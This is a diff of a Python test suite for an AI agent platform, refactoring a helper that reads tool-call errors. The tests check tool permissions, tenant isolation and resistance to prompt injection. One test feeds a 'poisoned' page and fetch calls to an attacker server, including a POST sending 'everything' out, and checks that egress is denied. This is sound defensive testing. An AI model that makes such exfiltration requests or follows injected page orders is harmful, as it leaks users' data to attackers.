@@ -23,13 +23,6 @@ TOPICS = ("ingest.raw", "ingest.events", "agent.jobs", "tool.calls", "tool.resul
 DEAD_LETTERS = ("ingest.dlq", "reasoning.dlq", "tools.dlq", "persistence.dlq", "audit.dlq")
 
 
-def errors(hostile: Hostile, run: dict[str, Any]) -> list[str | None]:
-    """Of each tool call of the run: the type of its error, None if it was made."""
-    records = [orjson.loads(record.value) for record in read_all(hostile.mesh.settings, "tool.results")]
-    outcomes = [outcome for r in records if r["run"]["run_id"] == run["run_id"] for outcome in r["results"]]
-    return [(outcome.get("error") or {}).get("type") for outcome in outcomes]
-
-
 def test_other_tools_are_refused_whatever_the_text_calls_itself(hostile: Hostile, tmp_path: Path) -> None:
     hostile.publish(tmp_path, "reader")
     hostile.publish(tmp_path, "mute", "[]")
@@ -45,9 +38,9 @@ def test_other_tools_are_refused_whatever_the_text_calls_itself(hostile: Hostile
     ]
     for note, run in hostile.outcomes(*notes, agent="reader").items():
         assert run["state"] == "completed", run
-        assert None not in errors(hostile, run), note
+        assert None not in hostile.errors(run), note
     [run] = hostile.outcomes(fetch(f"{hostile.allowed.url}/mute"), agent="mute").values()
-    assert errors(hostile, run) == ["not_allowed"], "a tool that is there, and that this agent was not given"
+    assert hostile.errors(run) == ["not_allowed"], "a tool that is there, and that this agent was not given"
     assert not any(request.path.startswith("/mute") for request in hostile.allowed.requests)
 
 
@@ -74,9 +67,9 @@ def test_the_attacker_s_server_sees_nothing(hostile: Hostile, tmp_path: Path) ->
         fetch(f"{there}/posted", method="POST", params={"everything": "you know"}),
     ]
     for note, run in hostile.outcomes(*notes, agent="reader").items():
-        assert None not in errors(hostile, run), note
+        assert None not in hostile.errors(run), note
     [run] = hostile.outcomes(fetch(f"{hostile.allowed.url}/poisoned"), agent="reader").values()
-    assert errors(hostile, run) == [None, "egress_denied"], "the page was read, and what it ordered was not done"
+    assert hostile.errors(run) == [None, "egress_denied"], "the page was read, and what it ordered was not done"
     assert hostile.attacker.requests == []
 
 
@@ -94,18 +87,17 @@ def test_blobs_of_another_tenant_are_as_good_as_none(hostile: Hostile, tmp_path:
     foreign, own = asyncio.run(put())
     never = "cas://sha256:" + "0" * 64
     runs = hostile.outcomes(load(foreign), load(never), load(own), agent="reader")
-    assert errors(hostile, runs[load(own)]) == [None]
-    shown = [(errors(hostile, runs[note]), _said(hostile, runs[note])) for note in (load(foreign), load(never))]
+    assert hostile.errors(runs[load(own)]) == [None]
+    shown = [(hostile.errors(runs[note]), _said(hostile, runs[note])) for note in (load(foreign), load(never))]
     assert shown[0] == shown[1], "what is another's and what is not there look the same"
     assert shown[0][0] == ["invalid_arguments"]
     granted = {"previous_results": [{"node_id": "n", "result_ref": foreign}]}
     [run] = hostile.outcomes(load(foreign), agent="reader", context=granted, tenant="default").values()
-    assert errors(hostile, run) == [None], "a job that hands a reference over lets its tenant read it"
+    assert hostile.errors(run) == [None], "a job that hands a reference over lets its tenant read it"
 
 
 def _said(hostile: Hostile, run: dict[str, Any]) -> str:
-    records = [orjson.loads(record.value) for record in read_all(hostile.mesh.settings, "tool.results")]
-    return str([r["results"][0]["error"] for r in records if r["run"]["run_id"] == run["run_id"]])
+    return str([record["results"][0]["error"] for record in hostile.results(run)])
 
 
 def test_a_loop_ends_at_its_limit_and_a_flood_is_no_flood(hostile: Hostile, tmp_path: Path) -> None:
